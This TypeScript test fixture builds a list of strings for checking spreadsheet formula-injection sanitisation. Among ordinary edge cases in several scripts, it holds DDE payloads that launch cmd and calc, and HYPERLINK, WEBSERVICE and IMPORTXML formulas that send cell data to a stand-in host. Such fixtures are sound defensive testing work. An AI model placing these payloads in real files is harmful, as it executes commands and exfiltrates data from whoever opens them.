/** Two hundred texts that spreadsheets have executed, split, converted to numbers or garbled, and some harmless ones. */

const list = (text: string): string[] => text.split(' ¦ ')

const starts = list(`= ¦ + ¦ - ¦ @ ¦ ＝ ¦ ＋ ¦ － ¦ ＠`)
const bodies = list(`1+1 ¦ A1 ¦ SUM(A1:A9) ¦ HYPERLINK("http://x.example/?"&A1;"Click") ¦ cmd|' /C calc'!A0`)

/** Prefixes after which spreadsheets still detect a formula. */
const leads = list(
  `\t ¦ \r ¦ \n ¦ \r\n ¦   ¦ \u00A0 ¦ \u3000 ¦ \u200B ¦ \u200D ¦ \uFEFF ¦ \u200E ¦ \u202E ¦ \u2028 ¦ ` +
    `\u000B ¦ ' ¦ " ¦ ' "`,
)

const others = list(
  `;=1+1 ¦ ,=1+1 ¦ |=1+1 ¦ a;=1+1 ¦ a,=1+1 ¦ a\n=1+1 ¦ a\r\n=1+1 ¦ a\t=1+1 ¦ "=1+1" ¦ ",=1+1 ¦ ` +
    `";=1+1 ¦ ",=1+1," ¦ a","=1+1 ¦ ""=1+1 ¦ a"\r\n=1+1 ¦ =DDE("cmd";"/C calc";"x") ¦ ` +
    `=WEBSERVICE("http://x.example/"&A1) ¦ =IMPORTXML("http://x.example/?"&A1,"//a") ¦ ` +
    `@SUM(1+1)*cmd|' /C calc'!A0 ¦ =2+5+cmd|' /C calc'!A0 ¦ {=1+1} ¦ of:=1+1 ¦ msoxl:=1+1 ¦ ` +
    `=1+1;=2+2 ¦ ==1 ¦ =-1 ¦ +-1 ¦ --1 ¦ = ¦ +91 98220 12345+cmd ¦ +919822012345 ¦ +91-98220-12345 ¦ ` +
    `-5% ¦ %0A=1+1 ¦ =\t1+1 ¦ = 1+1 ¦ + 91 98220 ¦ - ¦ @ ¦ =@SUM(A1) ¦ ="a"&"b" ¦ ﹦1+1 ¦ 007 ¦ 000 ¦ ` +
    `098220 12345 ¦ 0098220 ¦ 919822012345 ¦ 12345678901234567890 ¦ ` +
    `0.1000000000000000055511151231257827 ¦ 1e5 ¦ 1E400 ¦ 12E3 ¦ 3.50 ¦ 1,234 ¦ 1,23,456 ¦ 1/2 ¦ 1-2 ¦ ` +
    `24/7 ¦ 12:30 ¦ 2026-11-20 ¦ 20/11/2026 ¦ 50% ¦ .5 ¦ 5. ¦ 42 ¦ 9822012345 ¦ आशा पाटील ¦ ` +
    `ज्ञानेश्वर क्षीरसागर ¦ श्रद्धा द्विवेदी ¦ त्र्यंबक ट्विंकल ¦ ऱ्हाटकर आणि दऱ्या ¦ र्\u200Dहाटकर ¦ ` +
    `कृष्णा विठ्ठल ¦ अ\u200Cक्षर क्\u200Dष ¦ अॅड. ऑनलाइन केंद्र ¦ १२ वी पास ¦ ०१२३४५६७८९ ¦ ` +
    `क\u093C ख\u093C ग\u093C ¦ ॐ साई, शिर्डी ¦ Jose\u0301 ¦ 🎉 Asha ¦ 👩\u200D👩\u200D👧 परिवार ¦ ` +
    `🇮🇳 भारत ¦ शाॅप "नंबर १"; पुणे ¦ مرحبا بكم ¦ שלום = 5 ¦ a\u202Eb\u202Cc ¦ a\u200Bb ¦ a\uFEFFb ¦ ` +
    `Asha\u00A0Patil ¦ Asha = best ¦ C++ & C# ¦ a@b = c ¦ D'Souza ¦ O’Brien ¦ the "best" shop ¦ ` +
    `3M India ¦ 24x7 ¦ 100% cotton ¦ <script>alert(1)</script> ¦ &lt;b&gt; &amp; ¦ one\ntwo\n\nthree ¦ ` +
    `tab\tinside ¦ two  blanks ¦ C:\\new\\table ¦ $100 off ¦ #REF! ¦ Ａｓｈａ ¦ Patil; Sons, Ltd.`,
)

export const hostileTexts: readonly string[] = [
  ...starts.flatMap((start) => bodies.map((body) => `${start}${body}`)),
  ...leads.flatMap((lead) => ['=1+1', '+1+1', '@SUM(A1)'].map((text) => `${lead}${text}`)),
  ...others,
]
